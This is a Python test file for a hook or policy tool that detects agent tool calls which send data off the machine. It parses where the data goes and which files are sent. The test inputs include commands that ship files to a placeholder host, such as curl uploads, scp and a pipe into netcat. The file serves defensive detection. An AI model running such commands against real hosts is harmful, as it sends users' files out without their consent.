"""Commands that send data away: the table of senders, and where the data goes."""

from hookkit.policy.call import Call
from hookkit.programs import catalogue
from hookkit.programs.catalogue import SHIPPED
from hookkit.programs.sending import WAYS, host_of, is_local


def sent(command: str) -> list[tuple[str, list[str], bool]]:
    call = Call("Bash", {"command": command}, cwd="/p", project="/p", home="/home/u")
    return [(one.where, one.files, one.has_body) for one in call.sent()]


def test_every_way_of_sending_in_a_record_is_known_and_used() -> None:
    assert {way for name in catalogue.names() if (way := SHIPPED.get(name).text("sends"))} == set(WAYS)


def test_a_sending_names_its_goal_and_its_files() -> None:
    assert sent("curl -d @a https://x.example/y") == [("https://x.example/y", ["a"], True)]
    assert sent("scp a b me@x.example:") == [("x.example", ["a", "b"], True)]
    assert sent("cat a | nc x.example 80") == [("x.example", ["a"], True)]


def test_a_plain_request_has_no_body() -> None:
    assert sent("curl https://x.example") == [("https://x.example", [], False)]
    assert sent("curl -d a=b https://x.example") == [("https://x.example", [], True)]


def test_nothing_is_sent_by_commands_that_stay_on_the_machine() -> None:
    assert sent("tar cf a.tar b; rsync a b/; curl -d @a http://localhost:80; ls") == []


def test_other_tools_send_as_well() -> None:
    call = Call("WebFetch", {"url": "https://x.example/?q=1"}, cwd="/p", project="/p", home="/home/u")
    assert [(one.where, one.has_body) for one in call.sent()] == [("https://x.example/?q=1", False)]
    call = Call("SendUserFile", {"file_path": "a"}, cwd="/p", project="/p", home="/home/u")
    assert [(one.where, one.files) for one in call.sent()] == [("SendUserFile", ["a"])]


def test_a_host_is_read_from_every_kind_of_address() -> None:
    addresses = ("https://u:p@x.example:8/y?z", "me@x.example:dir", "x.example:80", "x.example/y#z")
    assert {host_of(address) for address in addresses} == {"x.example"}
    assert is_local("http://127.0.0.9:80/x")
    assert not is_local("http://127.0.0.1.x.example/")
